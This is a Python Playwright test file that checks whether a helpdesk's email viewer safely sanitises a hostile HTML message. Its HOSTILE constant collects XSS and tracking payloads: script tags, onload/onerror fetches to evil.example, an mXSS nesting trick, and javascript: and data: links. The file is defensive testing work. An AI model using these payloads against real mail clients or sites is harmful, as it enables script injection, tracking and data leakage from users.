"""A mail that tries everything: opening it asks nothing of anybody else, and nothing in it acts, clicked or not."""

from __future__ import annotations

from email.message import EmailMessage

from playwright.async_api import Page

from tests.browser.conftest import Desk, Trap
from tests.letters import letter

HOSTILE = """\
<html><head><base href="http://evil.example/base/"><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/link.css"><link rel="dns-prefetch" href="//evil.example">
<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/style.png) }</style>
</head>
<body onload="fetch('http://evil.example/onload')" background="http://evil.example/body.png">
<p style="background:url(http://evil.example/inline.png)">A red herring</p>
<div style="position:fixed;inset:0;z-index:9999;background:red">over everything</div>
<img src="http://evil.example/pixel.gif"><img src="relative.png" srcset="http://evil.example/set.png 2x">
<img src="x" onerror="fetch('http://evil.example/onerror')">
<script>document.title = 'owned'; fetch('http://evil.example/script')</script>
<svg onload="fetch('http://evil.example/svg')"><image href="http://evil.example/image.png"/><script>alert(1)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('http://evil.example/mxss')"></style></mglyph></table></mtext></math>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object>
<embed src="http://evil.example/embed"><video src="http://evil.example/video.mp4" autoplay poster="http://evil.example/poster.png"></video>
<form action="http://evil.example/form"><input name="a" autofocus onfocus="fetch('http://evil.example/focus')">
<button id="send" formaction="http://evil.example/button">Send</button></form>
<a id="top" href="http://evil.example/top" target="_top">to the top</a>
<a id="blank" href="http://evil.example/blank" target="_blank">a new window</a>
<a id="script" href="javascript:fetch('http://evil.example/javascript')">a script</a>
<a id="data" href="data:text/html,<script>fetch('http://evil.example/data')</script>">a document</a>
<table><tr><td background="http://evil.example/cell.png">cell</td></tr></table></body></html>
"""


def hostile() -> EmailMessage:
    mail = letter(
        "Mallory <mallory@hostile.example>", "<script>alert(1)</script><img src=//evil.example/s>", "Hello <b>you</b>"
    )
    mail.add_alternative(HOSTILE, subtype="html")
    return mail


def ask_everything(page: Page) -> list[str]:
    """Collects what must not happen in a page: dialogs, pop-ups."""
    happened: list[str] = []
    page.on("dialog", lambda dialog: happened.append(f"dialog {dialog.message}"))
    page.on("popup", lambda popup: happened.append(f"popup {popup.url}"))
    return happened


async def test_opening_and_clicking_a_hostile_mail_reaches_nobody(desk: Desk, trap: Trap) -> None:
    await desk.site.receive(hostile())
    page = await (await desk.signed_in()).new_page()
    happened = ask_everything(page)
    await page.goto("/tickets/1")
    await page.get_by_text("Show the whole mail").click()
    frame = page.frame_locator("iframe.mail")
    await frame.get_by_text("A red herring").wait_for()
    assert await page.title() != "owned"
    for name in ("to the top", "a new window", "a script", "a document"):
        await frame.get_by_text(name, exact=True).click()
        assert page.url == f"{desk.site.url}/tickets/1"
        await page.goto("/tickets/1")
        await page.get_by_text("Show the whole mail").click()
    assert await frame.locator("form, input, button, iframe, object, embed, video, svg, script").count() == 0
    await page.wait_for_load_state("networkidle")
    assert trap.hits == []
    assert happened == []


async def test_its_subject_and_text_are_text_everywhere(desk: Desk, trap: Trap) -> None:
    email = await desk.site.receive(hostile())
    page = await (await desk.signed_in()).new_page()
    happened = ask_everything(page)
    for path in ("/", "/tickets", "/tickets/1", "/find", f"/emails/{email['email_id']}"):
        await page.goto(path)
        await page.get_by_text("<script>alert(1)</script>").first.wait_for()
        await page.wait_for_load_state("networkidle")
    assert trap.hits == []
    assert happened == []


async def test_the_body_alone_in_a_window_is_as_harmless(desk: Desk, trap: Trap) -> None:
    email = await desk.site.receive(hostile())
    page = await (await desk.signed_in()).new_page()
    await page.goto(f"/emails/{email['email_id']}/html")
    await page.get_by_text("A red herring").wait_for()
    assert await page.evaluate("self.origin") == "null"
    await page.wait_for_load_state("networkidle")
    assert trap.hits == []


async def test_the_trap_catches(desk: Desk, trap: Trap) -> None:
    """The control: the same mail, served as it is, does reach the foreign server."""
    page = await (await desk.context()).new_page()
    await page.set_content(HOSTILE)
    await page.wait_for_url("http://evil.example/refresh")
    assert "GET evil.example/pixel.gif" in trap.hits
    assert "GET evil.example/script" in trap.hits
